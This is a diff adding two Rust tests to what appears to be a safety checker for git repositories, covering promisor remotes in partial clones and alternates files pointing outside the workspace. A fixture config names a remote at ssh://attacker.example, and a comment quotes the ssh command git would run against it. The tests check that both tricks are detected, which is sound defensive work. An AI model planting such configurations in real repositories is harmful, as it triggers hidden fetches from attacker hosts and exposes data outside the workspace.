@@ -111,6 +111,54 @@ fn fsmonitor_false_is_safe() {
     assert_eq!(f.run(&f.inv(&f.ws)).may_run_program(), None);
 }
 
+/// A partial clone: `git log -p -1` with a blob missing fetched it from the
+/// promisor remote, running `ssh attacker.example git-upload-pack '/x'`.
+#[test]
+fn a_promisor_remote_makes_reads_fetch() {
+    let f = fx();
+    git_dir(
+        &f.ws.join(".git"),
+        "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialclone = origin\n\
+         [remote \"origin\"]\n\turl = ssh://attacker.example/x\n\tpromisor = true\n",
+    );
+    let r = f.run(&f.inv(&f.ws));
+    assert_eq!(
+        keys_of(&r),
+        ["extensions.partialclone", "remote.origin.promisor"]
+    );
+    assert!(r.may_run_program().is_some());
+    // The other extensions of a fresh repository stay known.
+    git_dir(
+        &f.ws.join(".git"),
+        "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tobjectformat = sha256\n",
+    );
+    assert_eq!(f.run(&f.inv(&f.ws)).may_run_program(), None);
+}
+
+/// `objects/info/alternates` naming another repository's objects: `git
+/// cat-file -p SHA` printed a blob of that repository, outside the location.
+#[test]
+fn alternates_outside_are_read() {
+    let f = fx();
+    git_dir(
+        &f.ws.join(".git"),
+        "[core]\n\trepositoryformatversion = 0\n",
+    );
+    std::fs::create_dir_all(f.ws.join(".git/objects/info")).unwrap();
+    std::fs::create_dir_all(f.other.join("objects")).unwrap();
+    std::fs::write(
+        f.ws.join(".git/objects/info/alternates"),
+        format!("{}\n", f.other.join("objects").display()),
+    )
+    .unwrap();
+    let r = f.run(&f.inv(&f.ws));
+    assert!(
+        r.outside.contains(&f.other.join("objects")),
+        "{:?}",
+        r.outside
+    );
+}
+
 #[test]
 fn ordinary_git_init_repo_is_safe() {
     let f = fx();
